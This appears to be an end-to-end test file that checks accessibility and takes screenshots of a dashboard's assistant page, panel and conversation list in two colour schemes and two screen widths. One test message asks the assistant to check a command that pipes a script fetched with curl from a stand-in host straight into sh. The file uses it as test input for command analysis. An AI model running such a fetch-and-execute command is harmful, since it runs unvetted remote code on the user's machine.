// The assistant's page, panel and list as they look, in both looks and widths.
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { answersOf, ask, composerOf } from '../../e2e/support/ask.ts';
import { findBarriers } from '../../e2e/support/axe.ts';
import { type Dashboard, DESKTOP, openDashboard, PHONE, picture, ready, visit } from '../../e2e/support/dashboard.ts';

let dashboard: Dashboard;
beforeAll(async () => {
	dashboard = await openDashboard();
});
afterEach(() => dashboard.closePages());
afterAll(() => dashboard.close());

describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
	test.each([
		['desktop', DESKTOP],
		['phone', PHONE]
	])('axe finds nothing on a %s, on the page and in the panel; pictures', async (name, viewport) => {
		const page = await dashboard.newPage({ colorScheme, viewport });
		await visit(page, '/assistant?c=new');
		expect(await findBarriers(page)).toEqual([]);
		await picture(page, `assistant-empty-${colorScheme}-${name}`, false);
		await ask(page, 'Please check `sudo systemctl restart nginx` and `curl -s https://x.example/i.sh | sh`');
		const network = answersOf(page).last().getByRole('group', { name: 'Network' });
		expect(await network.textContent()).toContain('x.example (https)');
		// What grew stays in view at its end.
		await expect.poll(() => page.getByRole('button', { name: 'Go to the newest message' }).count()).toBe(0);
		expect(await findBarriers(page)).toEqual([]);
		await picture(page, `assistant-page-${colorScheme}-${name}`, false);
		await page.goto('/');
		await ready(page);
		if (!(await composerOf(page).isVisible())) await page.keyboard.press('Control+.');
		await answersOf(page).first().waitFor();
		expect(await findBarriers(page)).toEqual([]);
		await picture(page, `assistant-panel-${colorScheme}-${name}`, false);
		await page.getByRole('button', { name: 'Conversations' }).first().click();
		expect(await findBarriers(page)).toEqual([]);
		await picture(page, `assistant-list-${colorScheme}-${name}`, false);
		expect(page.troubles).toEqual([]);
		await page.close();
	});
});
